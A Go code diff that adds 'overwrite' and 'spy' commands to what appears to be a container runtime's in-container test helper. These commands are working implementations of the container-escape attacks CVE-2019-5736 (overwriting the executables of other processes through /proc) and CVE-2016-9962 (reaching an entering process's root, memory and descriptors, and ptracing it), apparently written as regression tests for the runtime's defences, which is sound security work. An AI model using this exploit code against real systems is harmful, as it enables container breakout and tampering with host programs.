@@ -11,6 +11,7 @@ import (
 	"strconv"
 	"strings"
 	"syscall"
+	"time"
 	"unsafe"
 
 	"golang.org/x/sys/unix"
@@ -60,6 +61,10 @@ func main() {
 	case "personality":
 		p, _, _ := unix.Syscall(unix.SYS_PERSONALITY, 0xffffffff, 0, 0)
 		fmt.Printf("%#x\n", p)
+	case "overwrite":
+		overwrite(args[0])
+	case "spy":
+		spy(args[0])
 	case "handle":
 		handle(args[0], args[1])
 	default:
@@ -218,4 +223,91 @@ func handle(mount, inode string) {
 		unix.Close(fd)
 	}
 	answer(err)
+}
+
+// forOthers calls f for every other process that can be seen, again and again,
+// for so many seconds.
+func forOthers(seconds string, f func(pid string)) {
+	fmt.Println("ready")
+	end := time.Now().Add(time.Duration(number(seconds)) * time.Second)
+	self := strconv.Itoa(os.Getpid())
+	for time.Now().Before(end) {
+		entries, _ := os.ReadDir("/proc")
+		for _, e := range entries {
+			if _, err := strconv.Atoi(e.Name()); err == nil && e.Name() != self {
+				f(e.Name())
+			}
+		}
+	}
+}
+
+// overwrite is CVE-2019-5736: whoever starts a program in sight has its
+// executable opened, and written to as soon as it no longer runs. Programs of
+// the container's own /bin are left alone.
+func overwrite(seconds string) {
+	kept := map[string]int{}
+	said := map[string]bool{}
+	say := func(text string) {
+		if !said[text] {
+			said[text] = true
+			fmt.Println(text)
+		}
+	}
+	forOthers(seconds, func(pid string) {
+		link, err := os.Readlink("/proc/" + pid + "/exe")
+		if err == nil && !strings.HasPrefix(link, "/bin/") {
+			if _, have := kept[link]; !have {
+				if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
+					kept[link] = fd
+					say("opened " + link)
+				}
+			}
+		}
+		for link, fd := range kept {
+			w, err := unix.Open("/proc/self/fd/"+strconv.Itoa(fd), unix.O_WRONLY|unix.O_CLOEXEC, 0)
+			if err != nil {
+				continue // ETXTBSY while it runs
+			}
+			if _, err := unix.Write(w, []byte("overwritten")); err == nil {
+				say("overwrote " + link)
+			}
+			unix.Close(w)
+		}
+	})
+}
+
+// spy is CVE-2016-9962: a process that enters the container is looked into
+// before it has given up what it has of the host.
+func spy(seconds string) {
+	said := map[string]bool{}
+	say := func(text string) {
+		if !said[text] {
+			said[text] = true
+			fmt.Println(text)
+		}
+	}
+	forOthers(seconds, func(pid string) {
+		name, _ := os.ReadFile("/proc/" + pid + "/comm")
+		if !strings.HasPrefix(string(name), "minirun") && !strings.HasPrefix(string(name), "3") {
+			return // not on the way: the bootstrap, or a program started from a descriptor's number
+		}
+		say("seen")
+		if fd, err := unix.Open("/proc/"+pid+"/root", unix.O_PATH, 0); err == nil {
+			unix.Close(fd)
+			say("its root")
+		}
+		if dir, err := os.ReadDir("/proc/" + pid + "/fd"); err == nil && len(dir) > 0 {
+			say("its descriptors")
+		}
+		if fd, err := unix.Open("/proc/"+pid+"/mem", unix.O_RDONLY, 0); err == nil {
+			unix.Close(fd)
+			say("its memory")
+		}
+		n := number(pid)
+		if unix.PtraceAttach(n) == nil {
+			say("traced")
+			_, _ = unix.Wait4(n, nil, unix.WALL, nil)
+			_ = unix.PtraceDetach(n)
+		}
+	})
 }
